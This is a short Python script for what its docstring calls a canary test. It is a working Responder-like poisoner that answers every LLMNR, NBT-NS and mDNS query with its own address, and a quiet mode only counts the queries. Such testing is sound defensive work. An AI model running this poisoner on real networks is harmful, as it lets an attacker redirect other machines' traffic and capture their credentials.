"""A Responder-like name poisoner for the canary test, written here from RFC 4795,
RFC 1002 and RFC 6762: it answers every LLMNR, NBT-NS and mDNS question it hears with
its own address. With --quiet it only counts the questions and answers nothing.

usage: poisoner.py ADDRESS INTERFACE_ADDRESS COUNT_FILE [--quiet]
Writes the number of questions heard to COUNT_FILE after each one.
"""
import select
import socket
import struct
import sys

me, iface, count_file = sys.argv[1], sys.argv[2], sys.argv[3]
quiet = "--quiet" in sys.argv


def udp(port, group=None):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", port))
    if group:
        mreq = socket.inet_aton(group) + socket.inet_aton(iface)
        s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)
    return s


llmnr, nbns, mdns = udp(5355, "224.0.0.252"), udp(137), udp(5353, "224.0.0.251")
heard = 0
addr = socket.inet_aton(me)


def question(packet):
    """The question's name bytes (labels up to the terminator) and the bytes after it."""
    at = 12
    while packet[at] != 0:
        at += 1 + packet[at]
    return packet[12:at + 1], packet[at + 1:at + 5]


while True:
    ready, _, _ = select.select([llmnr, nbns, mdns], [], [])
    for s in ready:
        packet, peer = s.recvfrom(2048)
        if len(packet) < 12 or packet[2] & 0x80:
            continue  # an answer, not a question
        heard += 1
        with open(count_file, "w") as f:
            f.write(str(heard))
        if quiet:
            continue
        ident = packet[:2]
        name, qtail = question(packet)
        if s is llmnr:
            answer = ident + struct.pack(">HHHHH", 0x8000, 1, 1, 0, 0) + name + qtail
            answer += struct.pack(">HHHIH", 0xC00C, 1, 1, 30, 4) + addr
        elif s is nbns:
            answer = ident + struct.pack(">HHHHH", 0x8500, 0, 1, 0, 0) + name
            answer += struct.pack(">HHIHH", 0x20, 1, 165, 6, 0) + addr
        else:
            answer = b"\0\0" + struct.pack(">HHHHH", 0x8400, 0, 1, 0, 0) + name
            answer += struct.pack(">HHIH", 1, 0x8001, 120, 4) + addr
        s.sendto(answer, peer)
